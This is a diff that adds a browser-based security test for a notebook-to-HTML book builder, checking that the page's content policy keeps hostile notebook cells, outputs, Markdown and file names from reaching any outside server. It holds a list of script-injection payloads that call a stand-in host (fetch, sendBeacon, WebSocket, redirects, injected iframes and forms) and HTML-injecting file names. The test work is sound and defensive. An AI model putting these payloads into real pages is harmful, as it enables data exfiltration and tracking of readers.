@@ -1,0 +1,131 @@
+import { afterAll, beforeAll, describe, expect } from "vitest";
+import type { Cell, Notebook } from "../../lib/notebook/nbformat.js";
+import { chromium, itWith } from "../cli/available.js";
+import { code, markdown, notebook } from "../cli/fixtures.js";
+import { bookOf } from "./builtBook.js";
+import { type CountingServer, countingServer } from "./countingServer.js";
+import { attacks, markdownAttacks, svgAttacks } from "./hostile.js";
+import { hiddenImports, hostileCells } from "./hostileCells.js";
+import { openReader, type Visit } from "./reader.js";
+
+// Whatever a notebook contains, its page and its cells reach no server but the one of the book. The notebooks here try it
+// with cells, outputs, Markdown, attachments and file names, in browsers, and a server counts what arrives.
+
+let elsewhere: CountingServer;
+let folder: string;
+beforeAll(async () => {
+  elsewhere = await countingServer();
+  folder = await bookOf({ [cells]: notebook(hostile(elsewhere.address)), ...shown(elsewhere) });
+}, 120_000);
+afterAll(() => elsewhere?.close());
+
+const cells = "01-cells";
+const outputs = "02-outputs";
+
+function hostile(address: string): Cell[] {
+  const ways = Object.values(hostileCells(address)).map(inHalfASecond);
+  const all = [...ways, ...hiddenImports(address)];
+  return all.map((text, i) => code(`tries-${i}`, text, ["raises-exception"]));
+}
+
+/** Some ways wait for an answer that never comes. */
+const inHalfASecond = (text: string): string =>
+  `await Promise.race([(async () => {\n${text}\n})(), new Promise((go) => setTimeout(go, 500))]);`;
+
+/** A notebook of stored outputs and Markdown, and two whose names are hostile. */
+function shown({ address }: CountingServer): Record<string, Notebook> {
+  const here = (text: string) => text.replaceAll(/(?:https:)?\/\/elsewhere\.example\//g, address);
+  const output = (type: string) => (text: string, i: number) =>
+    code(
+      `${type}-${i}`.replace(/\W/g, "-"),
+      "1;",
+      [],
+      [{ output_type: "display_data", data: { [type]: here(text) }, metadata: {} }],
+    );
+  const names = [`03-"><img src="${address}">`, `04-<base href="${address}">`].map((name) =>
+    name.replaceAll("/", "\u2215"),
+  ); // a name has no slash; this sign looks like one
+  return {
+    [outputs]: notebook([
+      ...markdownAttacks.map((text, i) => markdown(`text-${i}`, here(text))),
+      ...[...attacks, ...scripts].map(output("text/html")),
+      ...svgAttacks.map(output("image/svg+xml")),
+      ...attacks.map(output("text/markdown")),
+    ]),
+    ...Object.fromEntries(names.map((name) => [name, notebook([markdown("a", `# ${name}`)])])),
+  };
+}
+
+/** What the script of an output may try. */
+const scripts = [
+  `fetch("https://elsewhere.example/a")`,
+  `new Image().src = "https://elsewhere.example/a"`,
+  `navigator.sendBeacon("https://elsewhere.example/a")`,
+  `new WebSocket("wss://elsewhere.example/a")`,
+  `import("https://elsewhere.example/a")`,
+  `location = "https://elsewhere.example/a"`,
+  `parent.location = "https://elsewhere.example/a"`,
+  `top.location = "https://elsewhere.example/a"`,
+  `open("https://elsewhere.example/a")`,
+  `document.body.innerHTML = '<iframe src="https://elsewhere.example/a"></iframe>'`,
+  `document.body.innerHTML = '<form action="https://elsewhere.example/a"></form>'; document.forms[0].submit()`,
+  `document.body.innerHTML = '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/a">'`,
+  `document.body.innerHTML = '<a href="https://elsewhere.example/a">a</a>'; document.links[0].click()`,
+].map((text) => `<script>${text}</script>`);
+
+const patience = { timeout: 150_000, interval: 500 };
+/** The states of all cells that have run to their end. */
+const ended = `[...document.querySelectorAll("section[data-cell]")].filter((one) => /done|failed/.test(one.dataset.state)).length`;
+const runAll = `document.querySelector('[data-live="run-all"]').click()`;
+/** Scrolls through the page, because a browser loads some things only when they come into sight. */
+const readAll = `(async () => {
+  for (let y = 0; y < document.body.scrollHeight; y += innerHeight / 2) {
+    scrollTo(0, y);
+    await new Promise((go) => setTimeout(go, 30));
+  }
+  await new Promise((go) => setTimeout(go, 500));
+})()`;
+
+/** Opens a page, and returns what evaluates expressions in it. */
+type Open = (file: string) => Promise<(expression: string) => Promise<unknown>>;
+
+async function tryAll(open: Open): Promise<void> {
+  const count = hostile("").length;
+  const inCells = await open(`${cells}.html`);
+  await inCells(runAll);
+  await expect.poll(() => inCells(ended), patience).toBe(count);
+  await inCells(readAll);
+  for (const file of Object.keys(shown(elsewhere))) await (await open(`${file}.html`))(readAll);
+  expect(elsewhere.arrived).toEqual([]);
+}
+
+describe("no cell, output, text or file name of a notebook reaches a server", () => {
+  itWith(
+    [chromium],
+    "in Chromium",
+    async () => {
+      const reader = await openReader(folder);
+      const visits: Visit[] = [];
+      await tryAll(async (file) => {
+        const visit = await reader.visit(file);
+        visits.push(visit);
+        return (expression) => visit.page.evaluate(expression);
+      });
+      await reader.close();
+      expect(visits.flatMap(({ dialogs }) => dialogs)).toEqual([]);
+    },
+    240_000,
+  );
+
+  itWith(
+    [chromium],
+    "though a page without its policy would, and the server would count it",
+    async () => {
+      const reader = await openReader(folder);
+      const { page } = await reader.visit("index.html", { bypassCSP: true });
+      await page.evaluate((address) => fetch(address), elsewhere.address);
+      await reader.close();
+      expect(elsewhere.arrived).toContain("GET /");
+    },
+  );
+});
